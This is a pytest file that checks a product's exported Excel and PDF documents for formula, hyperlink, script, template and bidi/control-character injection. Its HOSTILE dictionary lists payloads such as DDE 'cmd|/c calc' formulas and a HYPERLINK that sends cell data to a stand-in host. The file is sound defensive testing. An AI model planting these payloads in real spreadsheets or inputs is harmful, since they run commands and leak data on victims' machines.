"""Hostile words in everything that people can name go out as plain words in every document of the product.

No cell of a workbook is a formula or a link, no document holds a control character or one that turns the direction of
writing, all of it is XML that parses, and a list that names the documents by hand is compared with the addresses.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterator
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from pypdf import PdfReader

from chuangcheng.cases.models import Case
from chuangcheng.core.access import SYSTEM
from chuangcheng.core.testing import deliver_events
from chuangcheng.inspections import services
from chuangcheng.inspections.testing import bring_to, make_field, make_round, make_visit
from chuangcheng.orgs.models import Unit
from chuangcheng.orgs.testing import Cast, actor_of
from chuangcheng.sites.models import Site
from chuangcheng.standards.models import Standard
from chuangcheng.standards.services import LinkDraft, link_standards
from chuangcheng.standards.testing import make_draft, make_framework
from tests.architecture.exports import ELSEWHERE, READ, TELLING
from tests.architecture.routes import Door, api_routes, pages
from tests.architecture.test_hidden_walk import signed_in, things_of

FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069]")
LONGEST_CELL = 32_767  # characters, Excel's own limit
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
HOSTILE = {  # none longer than the shortest name takes: 40 letters
    "formula": "=cmd|'/c calc'!A1",
    "plus": "+1+cmd|'/c calc'!A1",
    "minus": "-2+3+cmd|'/c calc'!A1",
    "at": "@SUM(1+1)*cmd|'/c calc'!A1",
    "link": '=HYPERLINK("http://a.invalid/"&A1,"按此")',
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "script": "<script>alert(1)</script></t><f>1+1</f>",
    "template": "{{ 7 * 191 }}{% for x in y %}",
    "control": "井\x01盖\x0b缺\x1f失",
    "direction": "井\u202e盖\u2066缺失\u2069",
}


def documents() -> list[Door]:
    """Every address that is read and may give a document."""
    return [*pages(), *(door for door, method in api_routes() if method == "GET")]


def test_no_document_is_missing_from_the_list() -> None:
    telling = {door.route for door in documents() if any(word in f"{door.route}{door.address}" for word in TELLING)}
    assert {door.route for door in documents()} >= READ
    assert telling - READ - set(ELSEWHERE) == set()
    assert not READ & set(ELSEWHERE)


@pytest.mark.parametrize("words", list(HOSTILE.values()), ids=list(HOSTILE))
def test_hostile_words_go_out_as_words(cast: Cast, words: str) -> None:
    field, made = _released(cast)
    # Past every check on the way in: what an older release or another program has written.
    Case.objects.update(description=words, place_text=words, source_label=words)
    Site.objects.update(name=words)
    Unit.objects.exclude(pk=cast.place.pk).update(short_name=words)
    Standard.objects.update(text=words)
    for route, content in _taken(cast, field, made):
        check_document(content, route)


def test_a_text_of_a_megabyte_goes_out_cut_to_what_a_cell_holds(cast: Cast) -> None:
    field, made = _released(cast)
    Case.objects.update(description="长" * 1_000_000)
    Standard.objects.update(text="长" * 1_000_000)
    longest = 0
    for route, content in _taken(cast, field, made):
        check_document(content, route)
        longest = max(longest, *_cell_lengths(content), 0)
    assert longest == LONGEST_CELL


def _released(cast: Cast) -> tuple[Any, Any]:
    """A field, and a released round of it whose cases are open."""
    field = make_field(cast)
    made = make_round(cast, field, name="公开周检查")
    visit = make_visit(cast, field, made, litter={"faults": 1})
    services.open_cases_for_visit(actor=actor_of(cast.inspector), visit_id=visit.pk)
    bring_to(cast, made, "released")
    deliver_events()
    return field, made


def _taken(cast: Cast, field: Any, made: Any) -> Iterator[tuple[str, bytes]]:
    """Route and content of every document."""
    things = things_of(cast, field, made) | {"kind_code": "cases"} | _linked(field)
    client = signed_in(cast.chief)
    for door in documents():
        if door.route in READ:
            answer = client.get(door.at(things))
            assert answer.status_code == 200, door.route
            yield door.route, _content(answer)


def _linked(field: Any) -> dict[str, object]:
    """A framework beside that of the field, a standard of which is linked; its words are as hostile."""
    other = make_framework(make_draft("3.1"), name="卫生体系")
    draft = LinkDraft(field.standards["2.1"].pk, other.standards.get().pk, "equal")
    link_standards(actor=SYSTEM, draft=draft)
    other.standards.update(text=Standard.objects.values_list("text", flat=True).get(pk=draft.first_id))
    return {"first_id": field.framework.pk, "second_id": other.pk}


def _cell_lengths(content: bytes) -> Iterator[int]:
    """Characters of each cell of a workbook; none of another document."""
    if content.startswith(b"%PDF"):
        return
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/sheet") or name == "xl/sharedStrings.xml":
                root = ET.fromstring(book.read(name))  # noqa: S314 - written by us
                yield from (len(text.text or "") for text in root.iter(f"{MAIN}t"))


def _content(answer: Any) -> bytes:
    return b"".join(answer.streaming_content) if answer.streaming else answer.content


def check_document(content: bytes, route: str) -> None:
    """A document of Office or a PDF that came from this route holds no formula or hidden sign of ours."""
    if content.startswith(b"%PDF"):
        _check_pdf(content, route)
        return
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        assert book.testzip() is None
        for name in book.namelist():
            if name.endswith((".xml", ".rels")):
                _check_part(name, book.read(name), route)


def _check_pdf(content: bytes, route: str) -> None:
    paper = PdfReader(io.BytesIO(content))
    text = "".join(page.extract_text() for page in paper.pages)
    assert text.strip(), route
    assert not FORBIDDEN.search(text.replace("\n", "")), route
    assert "1337" not in text, route
    assert not [page for page in paper.pages if "/Annots" in page], route  # no word became a link


def _check_part(name: str, content: bytes, route: str) -> None:
    text = content.decode()
    root = ET.fromstring(text)  # noqa: S314 - written by us
    assert not FORBIDDEN.search("".join(root.itertext())), (route, name)
    assert "a.invalid" not in text or not name.endswith(".rels"), (route, name)
    assert "1337" not in "".join(root.itertext()), (route, name)
    formulas = [formula.text or "" for formula in root.iter(f"{MAIN}f")]
    assert not [formula for formula in formulas if "cmd" in formula or "HYPERLINK" in formula or "1+1" in formula]
